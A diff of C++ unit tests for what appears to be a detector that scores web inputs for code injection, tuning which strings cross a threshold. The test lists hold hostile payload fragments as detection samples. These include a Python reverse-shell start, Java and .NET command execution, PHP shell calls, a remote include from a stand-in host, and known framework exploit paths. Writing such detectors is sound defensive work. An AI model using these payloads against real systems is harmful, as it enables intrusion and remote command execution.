@@ -105,10 +105,6 @@ TEST(Code, UploadsWhoseNamesLeadElsewhere) {
   EXPECT_GE(of_name("a.php907...", Attack::Code), kThreshold);
   EXPECT_LT(of_name("a.phpbb", Attack::Code), kThreshold);
 }
-TEST(Code, TheProcessOfNode) {
-  EXPECT_GE(points("process.exit()"), kThreshold);
-  EXPECT_LT(points("call process.exit() at the end"), kThreshold);
-}
 TEST(Code, ACallThatIsCutOff) {
   EXPECT_GE(points("base64_decode("), kThreshold);
   EXPECT_LT(points("see base64_decode("), kThreshold);
@@ -297,7 +293,7 @@ TEST(Code, LanguagesThatReachTheHost) {
   for (const std::string_view text :
        {"x.getClass().forName(\"java.lang.Runtime\")", "a().getMethod('getRuntime',null)",
         "\n@Grab(group='a',module='b')", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)",
-        "r=[33:system('touch x')]", "f(v) os.execute('id')", "Process.Start(\"cmd.exe\",\"/c id\")",
+        "[33:system('touch x')]", "f(v) os.execute('id')", "Process.Start(\"cmd.exe\",\"/c id\")",
         "CreateObject(\"\"WScript.Shell\"\").Exec(1)"})
     EXPECT_GE(points(text), kThreshold) << text;
   for (const std::string_view text : {"Class.forName(\"org.h2.Driver\")", "grab (a) drink", "import os; os.getcwd()",
@@ -310,8 +306,9 @@ TEST(Code, WhatProgramsOfPhpAreToldToCall) {
        {"shell_exec", "/index/\\think\\app/invokefunction", "\\a\\B::c()->d('system')", "mail[#post_render][]",
         "die(md5(a_test));", "include('http://h.example/a.txt');"})
     EXPECT_GE(points(text), kThreshold) << text;
-  for (const std::string_view text : {"phpinfo", "shell_exec is off", "C:/\\a\\b", "\\server\\share/a", "tags[#blue]",
-                                      "[#process me", "include('a.inc');", "print(md5)"})
+  for (const std::string_view text :
+       {"issue [#process] tracker", "a[#markup] is open", "shell_exec is off", "C:/\\a\\b", "\\server\\share/a",
+        "tags[#blue]", "[#process me", "include('a.inc');", "print(md5)"})
     EXPECT_LT(points(text), kThreshold) << text;
 }
 TEST(Code, AddressesOfDatabases) {
